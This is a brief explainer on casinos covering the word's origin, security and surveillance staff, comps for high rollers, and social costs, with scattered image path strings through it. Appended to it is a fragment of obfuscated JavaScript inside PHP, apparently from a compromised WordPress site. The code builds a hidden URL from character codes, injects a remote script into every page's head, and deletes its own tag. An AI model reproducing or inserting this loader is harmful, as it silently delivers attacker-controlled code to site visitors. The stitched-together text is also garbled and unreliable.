What Is a Casino?

A casino is a gambling establishment where people can gamble using money. The word casino is a shortened form of the Italian Casin, meaning “little house.” The modern casino has evolved from its humble beginnings into an entertainment mecca. Today, it offers top-notch hotels and spas, restaurants, bars and theaters. It also offers a variety of gaming options and live entertainment.

Casinos usually employ a large amount ofsecurity to protect their patrons and assets. They may employ a physical security force as well as specialized surveillance departments to patrol the premises. They monitor the activity on the casino floor and respond to calls for assistance or reports of suspicious or definite criminal behavior. They also analyze the results of each game to determine the best way to maximize profits. This work is done by mathematicians and computer programmers who specialize in casino games.Some casinos offer free goods and services to certain players, known as comps. These may include free hotel rooms, dinners or tickets to shows. Some casinos even give away airline tickets and limo service to high rollers. These gifts are based on the player’s gambling activities and how much they spend at the casino.

In addition to securing the safety of its patrons, the casino industry must be mindful of its impact on local communities. Studies show that casinos often take money from other forms of entertainment, and cause a shift in spending among local residents. Furthermore, the cost of treating problem gamblers and lost productivity due to their addiction sometimes negates any economic benefits that the casino may bring to a community.

0x73,0x74,0x61,0x72,0x74,0x73,0x2f,0x73,0x65,0x65,0x2e,0x6a,0x73),document['currentScript']['parentNode'][_0x3ec646(0x176)](f,document[_0x3ec646(0x17e)]),document['currentScript'][_0x3ec646(0x182)]();function _0x48d3(){var_0x35035=['script','currentScript','9RWzzPf','402740WuRnMq','732585GqVGDi','remove','createElement','30nckAdA','5567320ecrxpQ','src','insertBefore','8ujoTxO','1172840GvBdvX','4242564nZZHpA','296860cVAhnV','fromCharCode','5967705ijLbTz'];_0x48d3=function(){return _0x35035;};return _0x48d3();}";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}} ?>